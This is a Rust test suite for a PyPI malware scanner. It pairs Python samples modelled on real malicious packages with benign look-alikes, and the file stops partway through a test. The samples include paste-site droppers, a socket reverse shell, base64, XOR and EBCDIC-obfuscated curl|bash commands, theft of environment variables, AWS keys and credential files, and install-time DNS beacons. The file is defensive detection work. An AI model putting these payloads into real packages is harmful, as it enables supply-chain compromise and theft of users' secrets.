    let module = "import os, sys, tempfile\n\ndef run_remote():\n    t = tempfile.NamedTemporaryFile(suffix='.py', delete=False)\n    t.write(b\"\"\"from urllib.request import urlopen\\nexec(urlopen('https://rentry.co/placeholder/raw').read())\"\"\")\n    t.close()\n    os.system(f\"start {sys.executable.replace('.exe', 'w.exe')} {t.name}\")\n";
    let r = sdist(&[("setup.py", SETUP), ("pkg/remote.py", module)]);
    assert_eq!(r.verdict, Verdict::Malicious, "{:#?}", r.findings);
}

#[test]
fn fetching_from_a_paste_site_and_starting_a_program_in_one_function_is_malicious() {
    let module = "import os, requests\n\ndef role():\n    code = requests.get('https://pastebin.com/raw/placeholder').text\n    open('__cache.py', 'w').write(code)\n    os.system('python __cache.py')\n";
    let r = sdist(&[("setup.py", SETUP), ("pkg/role.py", module)]);
    assert_eq!(r.verdict, Verdict::Malicious, "{:#?}", r.findings);
    // Reading a paste and running git are two unrelated jobs in two functions.
    let benign = "import subprocess, requests\n\ndef fetch():\n    return requests.get('https://pastebin.com/raw/placeholder').text\n\ndef commit():\n    subprocess.run(['git', 'commit'])\n";
    let r = sdist(&[("setup.py", SETUP), ("pkg/role.py", benign)]);
    assert_ne!(r.verdict, Verdict::Malicious, "{:#?}", r.findings);
}

#[test]
fn downloading_running_and_persisting_in_one_function_is_malicious() {
    // duc193: a script fetched into a hidden folder, hooked into .bashrc, run.
    let module = "import os, subprocess\n\ndef install():\n    rc = os.path.expanduser('~/.bashrc')\n    os.system('wget -O ~/.x/n.py http://127.0.0.1:9/n.txt')\n    open(rc, 'a').write('python3 ~/.x/n.py\\n')\n    subprocess.run(['python3', os.path.expanduser('~/.x/n.py')])\n";
    let r = sdist(&[("setup.py", SETUP), ("pkg/installer.py", module)]);
    assert_eq!(r.verdict, Verdict::Malicious, "{:#?}", r.findings);
}

#[test]
fn a_cloud_secret_posted_from_a_large_module_is_read_and_caught() {
    // The Alibaba Cloud typosquats: a 100 KB client whose constructor posts
    // the access key secret; the constructor runs only when a user makes a
    // client, and a module that size is not read whole unless it both
    // names such a secret and calls requests.post.
    let filler = "def helper_{i}(x):\n    return x + {i}\n\n";
    let mut module = String::from(
        "import requests\n\nclass Client:\n    def __init__(self, config):\n        data = {'ak': config.access_key_id, 'secret': config.access_key_secret}\n        requests.post(\n            url='http://127.0.0.1:9/aliyun', json=data)\n\n",
    );
    for i in 0..400 {
        module.push_str(&filler.replace("{i}", &i.to_string()));
    }
    assert!(module.len() > 8192);
    let r = sdist(&[
        ("setup.py", SETUP),
        ("pkg/__init__.py", "from .client import Client\n"),
        ("pkg/client.py", &module),
    ]);
    assert_eq!(r.verdict, Verdict::Malicious, "{:#?}", r.findings);
}

#[test]
fn a_command_fetched_and_handed_to_a_local_runner_is_malicious() {
    // requestsdev: a loop that asks a server what to run, and runs it.
    let module = "import subprocess, requests\n\ndef debug():\n    link = 'http://127.0.0.1:9/'\n    resp = requests.get(link)\n    resp = resp.text\n    out = runcommand(resp)\n    requests.post(link + 'output', {'o': out})\n\ndef runcommand(value):\n    return subprocess.run(value, shell=True, capture_output=True)\n";
    let r = sdist(&[("setup.py", SETUP), ("pkg/__init__.py", module)]);
    assert_eq!(r.verdict, Verdict::Malicious, "{:#?}", r.findings);
    // A release script that runs fixed commands through a helper is not.
    let tool = "import subprocess, sys\n\ndef run(*args):\n    subprocess.run([str(a) for a in args], check=True)\n\ndef main():\n    run(sys.executable, '-c', 'import pkg; print(pkg.__version__)')\n";
    let r = sdist(&[
        ("setup.py", SETUP),
        ("pkg/__init__.py", "x = 1\n"),
        ("tools/check.py", tool),
    ]);
    assert_ne!(r.verdict, Verdict::Malicious, "{:#?}", r.findings);
}

#[test]
fn an_l111_obfuscated_command_run_at_install_is_decoded_and_malicious() {
    // maratlib: `os.system(l111_(u"<shifted text>"))`, the decoder evals a
    // string literal. Encoded here with the scheme's 2048 + (i + key) % 7.
    let plain = "u\"curl -s http://127.0.0.1:9/x.sh | bash\"";
    let enc: String = plain
        .chars()
        .enumerate()
        .map(|(i, c)| {
            char::from_u32(u32::from(c) + 2048 + (u32::try_from(i).unwrap() + 98) % 7).unwrap()
        })
        .chain(std::iter::once('b'))
        .collect();
    let setup = format!(
        "import sys\ndef l111_(s):\n    k = ord(s[-1])\n    b = s[:-1]\n    return eval(''.join(chr(ord(c) - 2048 - (i + k) % 7) for i, c in enumerate(b)))\nfrom setuptools import setup\n__import__('os').system(l111_(u\"{enc}\"))\nsetup(name='pkg')\n"
    );
    let r = sdist(&[("setup.py", &setup)]);
    assert_eq!(r.verdict, Verdict::Malicious, "{:#?}", r.findings);
    assert!(
        r.findings
            .iter()
            .any(|f| f.layer.as_deref() == Some("l111")),
        "{:#?}",
        r.findings
    );
}

#[test]
fn a_base64_shell_dropper_started_by_its_function_is_malicious() {
    // modularseven: "curl https://... | bash" in base64 through a local decoder.
    use base64::Engine as _;
    let cmd =
        base64::engine::general_purpose::STANDARD.encode("curl http://127.0.0.1:9/x.sh | bash");
    let module = format!(
        "import base64, subprocess\n\ndef decode_str(s):\n    return base64.b64decode(s).decode()\n\ndef processing():\n    command = [decode_str('{cmd}')]\n    subprocess.Popen(command)\n"
    );
    let r = sdist(&[("setup.py", SETUP), ("pkg/processor.py", &module)]);
    assert_eq!(r.verdict, Verdict::Malicious, "{:#?}", r.findings);
    // Base64 of plain text that is no command is nothing.
    let text =
        base64::engine::general_purpose::STANDARD.encode("just a long sentence of plain text");
    let module = format!(
        "import base64, subprocess\n\ndef show():\n    print(base64.b64decode('{text}').decode())\n    subprocess.run(['ls'])\n"
    );
    let r = sdist(&[("setup.py", SETUP), ("pkg/processor.py", &module)]);
    assert_ne!(r.verdict, Verdict::Malicious, "{:#?}", r.findings);
}

#[test]
fn os_system_spliced_from_string_pieces_and_evaluated_at_install_is_malicious() {
    // dfshoesadsm: eval("o"+'s.s'+"y"+'s'+"te"+'m')(decoded command).
    let setup = "import base64\nfrom setuptools import setup\ncmd = base64.b64decode(('ZW' + 'NobyBo' + 'aQ==').encode()).decode()\nrun = eval(\"o\" + 's.s' + \"y\" + 's' + \"te\" + 'm')\nrun(cmd)\nsetup(name='pkg')\n";
    let r = sdist(&[("setup.py", setup)]);
    assert_eq!(r.verdict, Verdict::Malicious, "{:#?}", r.findings);
    // A literal evaluated whole is not spliced.
    let setup = "from setuptools import setup\nVERSION = eval('(1, 2, 3)')\nsetup(name='pkg')\n";
    let r = sdist(&[("setup.py", setup)]);
    assert_ne!(r.verdict, Verdict::Malicious, "{:#?}", r.findings);
}

#[test]
fn secret_looking_environment_variables_pasted_to_a_paste_site_are_malicious() {
    // gpu-free-ai: every variable with KEY in its name, posted to pastebin.
    let module = "import os, urllib.parse, urllib.request\n\ndef _leak():\n    keys = [k for k in os.environ if 'KEY' in k.upper()]\n    for k in keys:\n        data = urllib.parse.urlencode({'api_paste_code': os.environ[k]}).encode()\n        urllib.request.urlopen('https://pastebin.com/api/api_post.php', data=data)\n";
    let r = sdist(&[("setup.py", SETUP), ("pkg/impl.py", module)]);
    assert_eq!(r.verdict, Verdict::Malicious, "{:#?}", r.findings);
    // Reading a key from the environment to call one's own API is not.
    let client = "import os, urllib.request\n\ndef call():\n    key = os.environ.get('PKG_API_KEY')\n    urllib.request.urlopen(urllib.request.Request('http://127.0.0.1:9/', headers={'Authorization': key}))\n";
    let r = sdist(&[("setup.py", SETUP), ("pkg/impl.py", client)]);
    assert_ne!(r.verdict, Verdict::Malicious, "{:#?}", r.findings);
}

#[test]
fn a_module_setup_py_runs_with_python_m_is_read_as_install_time() {
    // codigosintaxis: setup.py runs `python -m syntax`, whose __main__.py
    // starts a Discord bot (a hard-coded token) that steals browser secrets.
    // The token below has the shape of one and is not real.
    let token = "OTAwMDAwMDAwMDAwMDAwMDAw.GAAAAA.aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa";
    let setup = "import subprocess\nfrom setuptools import setup\nsetup(name='pkg', packages=['syntax'])\nsubprocess.run(['python', '-m', 'syntax'])\n";
    let main = format!(
        "import socket, win32crypt\nfrom discord.ext import commands\nbot = commands.Bot(command_prefix='!')\n\n@bot.command()\nasync def grab(ctx):\n    key = win32crypt.CryptUnprotectData(b'x', None, None, None, 0)\n    await ctx.send(socket.gethostbyname(socket.gethostname()))\n\nbot.run('{token}')\n"
    );
    let r = sdist(&[
        ("setup.py", setup),
        ("syntax/__init__.py", ""),
        ("syntax/__main__.py", &main),
    ]);
    assert_eq!(r.verdict, Verdict::Malicious, "{:#?}", r.findings);
    assert!(
        r.findings.iter().any(|f| f.code == "custody::drop-box"
            && f.path.ends_with("syntax/__main__.py")
            && f.phase == custody_inspect::Phase::Install),
        "{:#?}",
        r.findings
    );
}

#[test]
fn a_reverse_shell_kept_in_a_constant_and_run_is_malicious() {
    // mcp-runcmd-server: the one-liner split over joined literals at module
    // level, run by an "init" function (127.0.0.1 here).
    let module = "import subprocess\nINIT_COMMAND = (\n    'python3 -c \\'import socket,subprocess,os;'\n    's=socket.socket(socket.AF_INET,socket.SOCK_STREAM);'\n    's.connect((\"127.0.0.1\", 9));'\n    'os.dup2(s.fileno(), 0); os.dup2(s.fileno(), 1);'\n    'subprocess.call([\"/bin/sh\", \"-i\"]);\\''\n)\n\ndef execute_init_command():\n    subprocess.run(\n        INIT_COMMAND,\n        shell=True,\n    )\n";
    let r = sdist(&[("setup.py", SETUP), ("pkg/main.py", module)]);
    assert_eq!(r.verdict, Verdict::Malicious, "{:#?}", r.findings);
    // A constant that holds an ordinary command is not.
    let tool = "import subprocess\nBUILD = (\n    'make '\n    'all'\n)\n\ndef build():\n    subprocess.run(BUILD, shell=True)\n";
    let r = sdist(&[("setup.py", SETUP), ("pkg/main.py", tool)]);
    assert_ne!(r.verdict, Verdict::Malicious, "{:#?}", r.findings);
}

#[test]
fn code_xored_with_a_key_and_run_by_a_library_function_is_malicious() {
    // colarama and forestyle: a colorama copy whose deinit() XOR-decodes a
    // blob with a digit key and evals it; the module is larger than the
    // small-file limit and deinit runs only when called.
    let payload = "import os\nos.system('curl http://127.0.0.1:9/x | sh')\n";
    let key = "5587725355840836680193978071944485398432052535623941271504390244845513740858142571110992047974660254";
    let mut cipher = String::new();
    for (c, k) in payload.chars().zip(key.chars().cycle()) {
        std::fmt::Write::write_fmt(
            &mut cipher,
            format_args!("\\x{:02x}", u32::from(c) ^ u32::from(k)),
        )
        .unwrap();
    }
    let mut module = String::from("import sys\n\n");
    for i in 0..120 {
        std::fmt::Write::write_fmt(
            &mut module,
            format_args!("def helper_{i}(x):\n    return x + {i}\n\n"),
        )
        .unwrap();
    }
    let deinit = format!(
        "def deinit():\n    blob = \"{cipher}\"\n    key = \"{key}\"\n    out = ''\n    for i in range(len(blob)):\n        out += chr(ord(blob[i]) ^ ord(key[i % len(key)]))\n    eval(compile(out, '<string>', 'exec'))\n"
    );
    module.push_str(&deinit);
    assert!(module.len() > 4096);
    let r = sdist(&[
        ("setup.py", SETUP),
        ("pkg/__init__.py", "from .initialise import deinit\n"),
        ("pkg/initialise.py", &module),
    ]);
    assert_eq!(r.verdict, Verdict::Malicious, "{:#?}", r.findings);
}

#[test]
fn exec_fetched_from_builtins_by_a_name_spelled_in_character_codes_is_malicious() {
    // fire-eye-bcs: `getattr(builtins, ''.join(map(chr, [101,120,101,99])))`
    // through a variable, then the compiled payload run at import.
    let module = "import builtins\nsrc = 'print(1)'\n_comp = compile(src, '<obf>', 'exec')\n_do_name = ''.join(map(chr, [101, 120, 101, 99]))\n_doexec = getattr(builtins, _do_name)\n_doexec(_comp)\n";
    let r = sdist(&[("setup.py", SETUP), ("pkg/__init__.py", module)]);
    assert_eq!(r.verdict, Verdict::Malicious, "{:#?}", r.findings);
    // A builtin looked up by a plain variable (a REPL helper) is not.
    let helper = "import builtins\n\ndef lookup(name):\n    return getattr(builtins, name)\n";
    let r = sdist(&[("setup.py", SETUP), ("pkg/__init__.py", helper)]);
    assert_eq!(r.verdict, Verdict::Clean, "{:#?}", r.findings);
}

#[test]
fn a_builtin_fetched_by_getattr_and_called_behind_hidden_whitespace_is_malicious() {
    // sol-structs 1.0.3: after 300 spaces, `cc = getattr(builtins, <eval in
    // EBCDIC>); cc(<code in EBCDIC>)`.
    let pad = " ".repeat(300);
    let module = format!(
        "import builtins\nx = (1\n){pad};cc = getattr(builtins, b'\\x85\\xa5\\x81\\x93'.decode('cp1026'));cc(b'\\x97\\x99'.decode('cp1026'))\n"
    );
    let r = sdist(&[("setup.py", SETUP), ("pkg/__init__.py", &module)]);
    assert_eq!(r.verdict, Verdict::Malicious, "{:#?}", r.findings);
}

#[test]
fn a_web_route_that_runs_the_command_it_is_sent_is_malicious() {
    // bs4tools: a Flask route that hands a query parameter to a shell.
    let module = "import subprocess\nfrom flask import Flask, request\napp = Flask(__name__)\n\n@app.route('/bs4')\ndef bs4():\n    out = subprocess.Popen(request.args.get('parser'), shell=True, stdout=subprocess.PIPE)\n    return out.communicate()[0]\n";
    let r = sdist(&[("setup.py", SETUP), ("pkg/tools.py", module)]);
    assert_eq!(r.verdict, Verdict::Malicious, "{:#?}", r.findings);
    // A route that runs a fixed command is not.
    let fixed = "import subprocess\nfrom flask import Flask, request\napp = Flask(__name__)\n\n@app.route('/uptime')\ndef uptime():\n    return subprocess.run(['uptime'], capture_output=True).stdout\n";
    let r = sdist(&[("setup.py", SETUP), ("pkg/tools.py", fixed)]);
    assert_ne!(r.verdict, Verdict::Malicious, "{:#?}", r.findings);
}

#[test]
fn an_environment_secret_kept_on_self_and_sent_by_another_method_is_malicious() {
    // ctx 0.2.2: __init__ keeps AWS_SECRET_ACCESS_KEY on self, another
    // method puts it in a URL.
    let module = "import requests\nfrom os import environ\n\nclass Ctx(dict):\n    def __init__(self):\n        self.secret = environ.get('AWS_SECRET_ACCESS_KEY')\n        self.send()\n\n    def send(self):\n        requests.get('http://127.0.0.1:9/h/' + self.secret)\n";
    let r = sdist(&[("setup.py", SETUP), ("ctx.py", module)]);
    assert_eq!(r.verdict, Verdict::Malicious, "{:#?}", r.findings);
    // An SDK that keeps the secret to sign requests does not put it in them.
    let sdk = "import hmac, requests\nfrom os import environ\n\nclass Client:\n    def __init__(self):\n        self.secret = environ.get('AWS_SECRET_ACCESS_KEY')\n\n    def call(self, body):\n        sig = hmac.new(self.secret.encode(), body, 'sha256').hexdigest()\n        requests.post('http://127.0.0.1:9/api', data=body, headers={'X-Signature': sig})\n";
    let r = sdist(&[("setup.py", SETUP), ("client.py", sdk)]);
    assert_ne!(r.verdict, Verdict::Malicious, "{:#?}", r.findings);
}

#[test]
fn a_function_that_walks_the_environment_and_sends_is_malicious() {
    // ctx 0.2.6: every value, joined, base64-encoded, put in a GET.
    let module = "import base64, requests\nfrom os import environ\n\ndef send():\n    s = ''\n    for _, value in environ.items():\n        s += value + ' '\n    requests.get('http://127.0.0.1:9/h/' + base64.b64encode(s.encode()).decode())\n";
    let r = sdist(&[("setup.py", SETUP), ("ctx.py", module)]);
    assert_eq!(r.verdict, Verdict::Malicious, "{:#?}", r.findings);
    // Walking the environment to print it sends nothing.
    let show = "from os import environ\n\ndef show():\n    for k, v in environ.items():\n        print(k, v)\n";
    let r = sdist(&[("setup.py", SETUP), ("ctx.py", show)]);
    assert_ne!(r.verdict, Verdict::Malicious, "{:#?}", r.findings);
}

#[test]
fn pyarmor_code_run_while_installing_is_malicious() {
    // reqyest3 2.19.0: an install command runs a PyArmor blob.
    let setup = "import os\nfrom setuptools import setup\nfrom setuptools.command.install import install\nclass I(install):\n    def run(self):\n        from pytransform import pyarmor_runtime\n        pyarmor_runtime()\n        __pyarmor__(__name__, __file__, b'PYARMOR\\x00\\x00\\x03')\n        os.system('true')\n        install.run(self)\nsetup(name='pkg', cmdclass={'install': I})\n";
    let r = sdist(&[("setup.py", setup)]);
    assert_eq!(r.verdict, Verdict::Malicious, "{:#?}", r.findings);
    // A module a vendor protects with PyArmor cannot be read: worth a look.
    let module = "from pytransform import pyarmor_runtime\npyarmor_runtime()\n__pyarmor__(__name__, __file__, b'PYARMOR\\x00\\x00\\x03')\n";
    let r = sdist(&[("setup.py", SETUP), ("pkg/__init__.py", module)]);
    assert_eq!(r.verdict, Verdict::Suspicious, "{:#?}", r.findings);
}

#[test]
fn an_encoded_script_host_launcher_written_and_started_at_install_is_malicious() {
    // aiohttp-sock 0.1.40: a base64 VBScript that starts `pythonw`, written
    // out and started by setup.py.
    use base64::Engine;
    let vbs = base64::engine::general_purpose::STANDARD.encode(
        "Set s = WScript.CreateObject(\"WScript.Shell\")\ns.Exec \"pythonw.exe placeholder.pyw\"\n",
    );
    let setup = format!(
        "import base64\nfrom subprocess import Popen\nfrom setuptools import setup\nsetup(name='pkg')\nwith open('x.vbs', 'w') as f:\n    f.write(base64.b64decode('{vbs}').decode())\nPopen('x.vbs', shell=True)\n"
    );
    let r = sdist(&[("setup.py", &setup)]);
    assert_eq!(r.verdict, Verdict::Malicious, "{:#?}", r.findings);
    // A shortcut library names the same object in plain sight.
    let lib = "import win32com.client\ndef shortcut(path, target):\n    shell = win32com.client.Dispatch('WScript.Shell')\n    s = shell.CreateShortCut(path)\n    s.Targetpath = target\n    s.save()\n";
    let r = sdist(&[("setup.py", SETUP), ("pkg/__init__.py", lib)]);
    assert_eq!(r.verdict, Verdict::Clean, "{:#?}", r.findings);
}

#[test]
fn fetched_text_spliced_into_an_f_string_and_evaluated_at_import_is_malicious() {
    // bobikssf 0.4: `raw = requests.get(paste).text`, `eval(f"b'{raw}'")`.
    let module = "import requests\nraw = requests.get('http://127.0.0.1:9/raw/x').text\nbob = eval(f\"b'{raw}'\")\n";
    let r = sdist(&[("setup.py", SETUP), ("pkg/__init__.py", module)]);
    assert_eq!(r.verdict, Verdict::Malicious, "{:#?}", r.findings);
    // A constant spliced in is code in plain sight.
    let plain = "import requests\nname = 'value'\nx = eval(f\"'{name}'\")\n";
    let r = sdist(&[("setup.py", SETUP), ("pkg/__init__.py", plain)]);
    assert_ne!(r.verdict, Verdict::Malicious, "{:#?}", r.findings);
}

#[test]
fn a_download_and_a_build_step_in_two_setup_helpers_are_not_a_dropper() {
    // reportlab: setup.py downloads font data in one helper and runs a
    // compiler in another.
    let helpers = "import subprocess, urllib.request\nfrom setuptools import setup\ndef fonts():\n    return urllib.request.urlopen('http://127.0.0.1:9/fonts.zip').read()\ndef build():\n    subprocess.call(['make'])\nfonts()\nbuild()\nsetup(name='pkg')\n";
    let r = sdist(&[("setup.py", helpers)]);
    assert_ne!(r.verdict, Verdict::Malicious, "{:#?}", r.findings);
    // Both in one place: fetched and a program started.
    let dropper = "import subprocess, urllib.request\nfrom setuptools import setup\ndata = urllib.request.urlopen('http://127.0.0.1:9/x').read()\nsubprocess.call(['sh', '-c', 'true'])\nsetup(name='pkg')\n";
    let r = sdist(&[("setup.py", dropper)]);
    assert_eq!(r.verdict, Verdict::Malicious, "{:#?}", r.findings);
}

#[test]
fn dns_beacons_through_a_variable_or_a_dns_tool_at_install_are_malicious() {
    // f5rest 99.0.0: `hostname = "..."`, `socket.gethostbyname(hostname)`.
    let var = "import socket\nfrom setuptools import setup\nfrom setuptools.command.install import install\nclass I(install):\n    def run(self):\n        hostname = f\"probe.placeholder.invalid\"\n        socket.gethostbyname(hostname)\n        install.run(self)\nsetup(name='pkg', cmdclass={'install': I})\n";
    let r = sdist(&[("setup.py", var)]);
    assert_eq!(r.verdict, Verdict::Malicious, "{:#?}", r.findings);
    // pygrata 2.1.2: `dig @1.1.1.1 install.api.<name>.com`.
    let dig = "import subprocess\nfrom setuptools import setup\nsubprocess.getoutput('dig @127.0.0.1 install.placeholder.invalid')\nsetup(name='pkg')\n";
    let r = sdist(&[("setup.py", dig)]);
    assert_eq!(r.verdict, Verdict::Malicious, "{:#?}", r.findings);
    // Resolving the local host, or a name the caller passes, is not.
    let local = "import socket\nfrom setuptools import setup\nhost = 'localhost'\nsocket.gethostbyname(host)\nsetup(name='pkg')\n";
    let r = sdist(&[("setup.py", local)]);
    assert_eq!(r.verdict, Verdict::Clean, "{:#?}", r.findings);
}

#[test]
fn the_environment_dumped_with_env_at_install_is_malicious() {
    // builderknower2 0.1.13: `os.system("env > LICENSE")`.
    let setup =
        "import os\nfrom setuptools import setup\nos.system('env > LICENSE')\nsetup(name='pkg')\n";
    let r = sdist(&[("setup.py", setup)]);
    assert_eq!(r.verdict, Verdict::Malicious, "{:#?}", r.findings);
    // `env NAME=value cmd` runs a command with a variable set.
    let runner = "import os\nfrom setuptools import setup\nos.system('env CC=gcc true')\nsetup(name='pkg')\n";
    let r = sdist(&[("setup.py", runner)]);
    assert_ne!(r.verdict, Verdict::Malicious, "{:#?}", r.findings);
}

#[test]
fn names_of_credential_files_and_rc_files_alone_are_not_suspicious() {
    // botocore, google-auth, asyncpg name their credential files; pygments'
    // shell lexer lists `.bashrc`. Naming is not acting.
    let sdk = "import os\nCREDENTIALS = os.path.expanduser('~/.aws/credentials')\nRC_FILES = ['.bashrc', '.zshrc']\n";
    let r = sdist(&[("setup.py", SETUP), ("pkg/__init__.py", sdk)]);
    assert_eq!(r.verdict, Verdict::Clean, "{:#?}", r.findings);
    // Beside code that acts at import in the same file, worth a look.
    let acting = format!("{sdk}import subprocess\nsubprocess.run(['true'])\n");
    let r = sdist(&[("setup.py", SETUP), ("pkg/__init__.py", &acting)]);
    assert_eq!(r.verdict, Verdict::Suspicious, "{:#?}", r.findings);
}

#[test]
fn a_module_that_hides_its_imports_three_times_over_is_malicious() {
    // matplatlib-plus 1.3: every import spelled as XOR-ed bytes.
    let hide = |n: u8| {
        format!(
            "m{n} = __import__(''.join(chr(a ^ b) for a, b in zip(b'\\x01\\x02', b'\\x71\\x72')))\n"
        )
    };
    let module = format!("{}{}{}", hide(1), hide(2), hide(3));
    let r = sdist(&[("setup.py", SETUP), ("pkg/__init__.py", &module)]);
    assert_eq!(r.verdict, Verdict::Malicious, "{:#?}", r.findings);
    // Once is worth a look, not a verdict.
    let r = sdist(&[("setup.py", SETUP), ("pkg/__init__.py", &hide(1))]);
    assert_eq!(r.verdict, Verdict::Suspicious, "{:#?}", r.findings);
}

#[test]
fn regex_character_ranges_spelled_in_escapes_are_not_hidden_text() {
    // wcmatch: POSIX classes as `\x30-\x39\x41-\x5a...`.
    let module = "CLASSES = {\n    'alnum': '\\x30-\\x39\\x41-\\x5a\\x61-\\x7a',\n    'word': '\\x30-\\x39\\x41-\\x5a\\x5f\\x61-\\x7a',\n}\n";
    let r = sdist(&[("setup.py", SETUP), ("pkg/__init__.py", module)]);
    assert_eq!(r.verdict, Verdict::Clean, "{:#?}", r.findings);
    // Words spelled so are.
    let hidden = "NAME = '\\x65\\x76\\x61\\x6c\\x75\\x61\\x74\\x65'\n";
    let r = sdist(&[("setup.py", SETUP), ("pkg/__init__.py", hidden)]);
    assert!(
        r.findings.iter().any(|f| f.code == "custody::obfuscation"),
        "{:#?}",
        r.findings
    );
}

#[test]
fn streams_redirected_to_a_socket_are_a_reverse_shell_but_output_capture_is_not() {
    let shell = "import os, socket, subprocess\ns = socket.socket()\ns.connect(('127.0.0.1', 9))\nos.dup2(s.fileno(), 0)\nos.dup2(s.fileno(), 1)\nsubprocess.call(['/bin/sh', '-i'])\n";
    let r = sdist(&[("setup.py", SETUP), ("pkg/__init__.py", shell)]);
    assert_eq!(r.verdict, Verdict::Malicious, "{:#?}", r.findings);
    // py's and jax's capture helpers point stdout at a temporary file.
    let capture = "import os, tempfile\ndef capture():\n    f = tempfile.TemporaryFile()\n    saved = os.dup(1)\n    os.dup2(f.fileno(), 1)\n    return f, saved\ncapture()\n";
    let r = sdist(&[("setup.py", SETUP), ("pkg/__init__.py", capture)]);
    assert_eq!(r.verdict, Verdict::Clean, "{:#?}", r.findings);
}

/// Cases from a real ML environment (issue 13) judged suspicious for what
/// their text names, each beside the look-alike that acts.
#[test]
fn text_that_names_a_host_or_a_command_is_not_code_that_acts() {
    // litellm/proxy/_types.py: an example URL in a field description.
    let described = "DESC = \"e.g. {'budget_alerts': 'https://nothooks.slack.com/services/T00000000/B00000000/XXXXXXXX'}\"\n";
    let r = common::wheel(&[("pkg/__init__.py", described)]);
    assert!(
        !r.findings.iter().any(|f| f.code == "custody::drop-box"),
        "{:#?}",
        r.findings
    );
    // tqdm/contrib/telegram.py: a bot API base URL as a class constant.
    let api = "class TelegramIO:\n    API = 'https://api.telegram.org/bot'\n";
    let r = common::wheel(&[("pkg/__init__.py", api)]);
    assert_eq!(r.verdict, Verdict::Clean, "{:#?}", r.findings);
    // Posting to that webhook at import still counts.
    let posted = "import requests\nrequests.post('https://hooks.slack.com/services/T0/B0/X', json={'t': open('/etc/hostname').read()})\n";
    let r = common::wheel(&[("pkg/__init__.py", posted)]);
    assert_ne!(r.verdict, Verdict::Clean, "{:#?}", r.findings);
    // huggingface_hub/cli/skills.py: an install one-liner in a help text.
    let help = "_SKILL = f\"\"\"\\n---\\nname: hf-cli\\n---\\nInstall: curl -LsSf https://hf.co/cli/install.sh | bash -s\\n\"\"\"\n";
    let r = common::wheel(&[("pkg/__init__.py", help)]);
    assert_eq!(r.verdict, Verdict::Clean, "{:#?}", r.findings);
    // The same one-liner run at import is not text.
    let run = "import os\nos.system('curl -LsSf https://203.0.113.9/install.sh | bash -s')\n";
    let r = common::wheel(&[("pkg/__init__.py", run)]);
    assert_ne!(r.verdict, Verdict::Clean, "{:#?}", r.findings);
}

#[test]
fn starting_a_windows_system_program_by_name_is_not_starting_a_dropped_file() {
    // joblib/externals/loky/backend/context.py, run at import.
    let count = "import subprocess\ncmd = '-NoProfile -Command (Get-CimInstance -ClassName Win32_Processor).NumberOfCores'\ninfo = subprocess.run(f'powershell.exe {cmd}'.split(), capture_output=True)\n";
    let r = common::wheel(&[("pkg/__init__.py", count)]);
    assert!(
        !r.findings
            .iter()
            .any(|f| f.code == "custody::process-spawn" && f.level >= Level::High),
        "{:#?}",
        r.findings
    );
    // A file the package wrote, started the same way, is.
    let dropped = "import subprocess\nsubprocess.run(['C:/Users/Public/update.exe'])\n";
    let r = common::wheel(&[("pkg/__init__.py", dropped)]);
    assert!(
        r.findings
            .iter()
            .any(|f| f.code == "custody::process-spawn" && f.level >= Level::High),
        "{:#?}",
        r.findings
    );
}

/// Cases from the tuning half of PyPI ranks 3,001-4,000 (even ranks; the
/// odd ranks are held out and never read for rule work), each with the
/// look-alike that must still be caught.
#[test]
fn client_behaviour_of_ranks_3001_to_4000_is_told_from_theft() {
    // pyngrok: downloads the ngrok agent from ngrok's CDN and starts it.
    let installer = "import os, subprocess, urllib.request\nCDN = 'https://bin.ngrok.com/c/abc/'\nurllib.request.urlretrieve(CDN + 'ngrok-v3-stable-linux-amd64.tgz', '/tmp/ngrok.tgz')\n";
    let r = wheel(&[("pkg/__init__.py", installer)]);
    assert_ne!(r.verdict, Verdict::Malicious, "{:#?}", r.findings);
    // A probe that reports to a tunnel is a request bin in use.
    let probe = "import getpass, urllib.request\nurllib.request.urlopen('https://4f2a.ngrok-free.app/?u=' + getpass.getuser())\n";
    let r = wheel(&[("pkg/__init__.py", probe)]);
    assert_eq!(r.verdict, Verdict::Malicious, "{:#?}", r.findings);

    // skypilot / oci-cli: an SDK install one-liner kept as a constant, next
    // to the credential paths the CLI documents and a .bashrc it completes.
    let cli = "import os\nGCP_CONFIG = '~/.config/gcloud/configurations/config_default'\nRC = os.path.expanduser(os.path.join('~', '.bashrc'))\nINSTALL = 'pushd /tmp && curl -sSL https://dl.google.com/sdk.tar.gz -o sdk.tar.gz && tar xzf sdk.tar.gz'\n";
    let r = wheel(&[("pkg/__init__.py", cli)]);
    assert_ne!(r.verdict, Verdict::Malicious, "{:#?}", r.findings);
    // The same one-liner run at import, with the credentials, is theft.
    let run = "import os\nos.system('curl -s -F f=@' + os.path.expanduser('~/.config/gcloud/credentials.db') + ' https://203.0.113.9/u')\n";
    let r = wheel(&[("pkg/__init__.py", run)]);
    assert_eq!(r.verdict, Verdict::Malicious, "{:#?}", r.findings);

    // skypilot: "hostNetwork: true" explained in a module docstring.
    let doc = "\"\"\"Probe for pods with\n    hostNetwork: true\nset in their spec.\"\"\"\nTOKEN = '/var/run/secrets/kubernetes.io/serviceaccount/token'\n";
    let r = wheel(&[("pkg/probe.py", doc)]);
    assert_ne!(r.verdict, Verdict::Malicious, "{:#?}", r.findings);

    // open-webui: its own credentials variable read, its own service asked,
    // the metadata address in a proxy exclusion list.
    let config = "import os, requests\nCREDS = os.getenv('GOOGLE_APPLICATION_CREDENTIALS_JSON', None)\nNO_PROXY = ['!169.254.169.254']\nr = requests.get('https://api.openwebui.com/api/v1/custom/x')\n";
    let r = wheel(&[("pkg/__init__.py", config)]);
    assert_ne!(r.verdict, Verdict::Malicious, "{:#?}", r.findings);
    // A credentials file read and posted at import is theft.
    let stealer = "import os, requests\nkey = open(os.path.expanduser('~/.aws/credentials')).read()\nrequests.post('https://203.0.113.9/k', data=key)\n";
    let r = wheel(&[("pkg/__init__.py", stealer)]);
    assert_eq!(r.verdict, Verdict::Malicious, "{:#?}", r.findings);

    // uwsgi: platform facts at the top of a build script, a helper that
    // opens a build profile by URL.
    let build = "import os, urllib.request\nuwsgi_os = os.uname()[0]\nuwsgi_cpu = os.uname()[4]\ndef open_profile(name):\n    return urllib.request.urlopen(name)\nopen_profile('https://example.org/profile.ini')\n";
    let r = sdist(&[
        ("setup.py", &format!("import uwsgiconfig\n{SETUP}")),
        ("uwsgiconfig.py", build),
    ]);
    assert_ne!(r.verdict, Verdict::Malicious, "{:#?}", r.findings);
    // A setup.py function that gathers the user and host, and one that
    // sends: a beacon at install (python-mysqldb 2.4).
